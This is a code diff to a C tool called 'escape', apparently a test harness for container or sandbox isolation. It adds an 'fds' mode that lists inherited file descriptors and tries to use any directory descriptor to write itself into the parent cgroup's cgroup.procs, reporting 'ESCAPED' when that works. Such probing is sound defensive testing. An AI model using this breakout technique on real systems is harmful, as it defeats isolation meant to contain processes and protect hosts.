@@ -15,6 +15,10 @@
  *
  *   escape ids                   print the real and effective uid (run it
  *                                setuid to see whether that took effect)
+ *   escape fds                   print the fds it was started with, one
+ *                                line "fds 0 1 2 ..."; through each one that
+ *                                is a directory, try to move itself to the
+ *                                parent cgroup (its cgroup.procs)
  *
  * MARKER and OUT are absolute paths on the host. Prints "ESCAPED ..." for
  * each success, and "watched N processes" at the end of a watch. */
@@ -168,6 +172,32 @@ static int watch(int secs, const char *marker, const char *out, const char *exe_
 	return 0;
 }
 
+/* What the runtime handed us: nothing is opened before the fds are read,
+ * so the listing is exactly what execve brought. */
+static int list_fds(void)
+{
+	char line[4096] = "fds";
+	size_t len = 3;
+	int dirs[64], nd = 0;
+	for (int fd = 0; fd < 1024; fd++) {
+		struct stat st;
+		if (fstat(fd, &st) < 0)
+			continue;
+		len += (size_t)snprintf(line + len, sizeof(line) - len, " %d", fd);
+		if (S_ISDIR(st.st_mode) && nd < 64)
+			dirs[nd++] = fd;
+	}
+	printf("%s\n", line);
+	for (int i = 0; i < nd; i++) {
+		int procs = openat(dirs[i], "../cgroup.procs", O_WRONLY | O_CLOEXEC);
+		if (procs >= 0 && dprintf(procs, "%d\n", (int)getpid()) > 0)
+			printf("ESCAPED through fd %d: moved to the parent cgroup\n", dirs[i]);
+		else
+			printf("directory fd %d\n", dirs[i]);
+	}
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -175,10 +205,12 @@ int main(int argc, char **argv)
 		printf("uid=%d euid=%d\n", (int)getuid(), (int)geteuid());
 		return 0;
 	}
+	if (argc == 2 && !strcmp(argv[1], "fds"))
+		return list_fds();
 	if (argc == 4 && !strcmp(argv[1], "cwd"))
 		return attack_cwd(argv[2], argv[3]);
 	if (argc == 6 && !strcmp(argv[1], "watch"))
 		return watch(atoi(argv[2]), argv[3], argv[4], argv[5]);
-	fprintf(stderr, "usage: escape cwd MARKER OUT | escape watch SECS MARKER OUT EXE-OUT | escape ids\n");
+	fprintf(stderr, "usage: escape cwd MARKER OUT | escape watch SECS MARKER OUT EXE-OUT | escape ids | escape fds\n");
 	return 2;
 }
